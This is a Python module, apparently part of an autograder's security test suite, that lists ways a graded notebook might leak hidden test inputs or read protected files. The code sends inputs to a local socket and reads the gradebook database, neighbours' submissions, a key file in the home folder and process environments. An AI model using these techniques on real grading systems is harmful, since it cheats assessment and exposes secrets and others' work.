"""Ways to tell what a hidden test gave, or to read it, so that the graded notebook or somebody outside knows it."""

from tests.attacks.attack import Attack
from tests.attacks.kernel import WRONG

PEEK = "def double(x):\n    {}\n    return 2 * x\n"
GOOD = frozenset({"test_double", "test_total"})
SEND = """
import socket
def tell(text):
    try:
        with socket.create_connection(("127.0.0.1", $PORT)) as sock:
            sock.sendall(str(text).encode())
    except OSError as error:
        print(error)
"""


def leak(name: str, inside: str = "", *cells: str, **more) -> Attack:
    """``inside`` runs in `double`, at each call of a test."""
    answers = {"double": PEEK.format(inside)} if inside else WRONG
    return Attack(name, "leaks", **{"cells": cells, "answers": answers, "earns": GOOD} | more)


ATTACKS = [
    leak("input_printed", "print('got', x) if x > 99 else None", earns=GOOD),
    leak(
        "input_in_the_text_of_an_exception", "if x > 99: raise ValueError(f'got {x}')", earns=frozenset({"test_total"})
    ),
    leak(
        "input_in_the_name_of_an_exception",
        "if x > 99: raise type(f'Got{x}', (Exception,), {})()",
        earns=frozenset({"test_total"}),
    ),
    leak("input_as_a_warning", "import warnings; warnings.warn(f'got {x}')"),
    leak("input_written_to_the_descriptor", "import os; os.write(1, f'got {x}'.encode())"),
    leak("input_kept_and_printed_later", "seen.append(x)", "seen = []", last=("print(seen)",)),
    leak(
        "input_sent_to_the_network",
        "tell(x) if x > 99 else None",
        SEND,
    ),
    leak(
        "input_sent_to_a_socket_without_a_file",
        "tell(x) if x > 99 else None",
        "import socket\ndef tell(x):\n    try:\n        with socket.socket(socket.AF_UNIX) as sock:\n"
        "            sock.connect('\\0$SOCKET')\n            sock.sendall(str(x).encode())\n"
        "    except OSError as error:\n        print(error)",
    ),
    leak(
        "test_read_from_the_frame",
        "import sys\n    frame = sys._getframe(1)\n    while frame:\n"
        "        kept.append(str(frame.f_globals.get('In')))\n        frame = frame.f_back",
        "kept = []",
        last=("print(kept)",),
    ),
    leak("test_read_from_the_history", last=("print(In)",), earns=frozenset({"test_total"})),
    leak(
        "test_read_from_memory",
        last=(
            "import gc\nprint([o for o in gc.get_objects() if isinstance(o, dict) and 'canary-hidden' + '-test' in "
            "str(list(o.values())[:50])[:100_000]][:1])",
        ),
        earns=frozenset({"test_total"}),
    ),
    leak(
        "source_notebook_read",
        "",
        "from pathlib import Path\nfor path in Path('$COURSE').glob('source/*/*.ipynb'): print(path.read_text())",
        earns=frozenset({"test_total"}),
    ),
    leak(
        "lesson_text_read",
        "",
        "from pathlib import Path\nfor path in Path('$COURSE').glob('lessons/*/*.py'): print(path.read_text())",
        earns=frozenset({"test_total"}),
    ),
    leak(
        "gradebook_read",
        "",
        "import sqlite3\ntry:\n    print(sqlite3.connect('file:$COURSE/gradebook.db?mode=ro', uri=True).execute("
        "'select source from source_cell').fetchall())\nexcept sqlite3.Error as error:\n    print(error)",
        earns=frozenset({"test_total"}),
    ),
    leak(
        "submission_of_a_neighbour_read",
        "",
        "from pathlib import Path\nfor path in Path('$COURSE').glob('submitted/*/*/*.ipynb'):\n"
        "    print('canary-' + 'neighbour' in path.read_text() and 'canary-' + 'neighbour')",
        earns=frozenset({"test_total"}),
    ),
    leak(
        "file_in_the_home_folder_read",
        "",
        "from pathlib import Path\ntry: print(Path('$HOME/.key').read_text())\nexcept OSError as error: print(error)",
        earns=frozenset({"test_total"}),
    ),
    leak("environment_printed", "", "import os\nprint(dict(os.environ))", earns=frozenset({"test_total"})),
    leak(
        "environment_of_the_parent_read",
        "",
        "import glob\nfor path in glob.glob('/proc/[0-9]*/environ'):\n    try: print(open(path).read())\n"
        "    except OSError: pass",
        earns=frozenset({"test_total"}),
    ),
    leak(
        "link_to_the_source_handed_in",
        files=lambda folder, place: (folder / "notes.txt").symlink_to(
            place.course / "source" / "01-target" / "target.ipynb"
        ),
        earns=frozenset({"test_total"}),
    ),
]
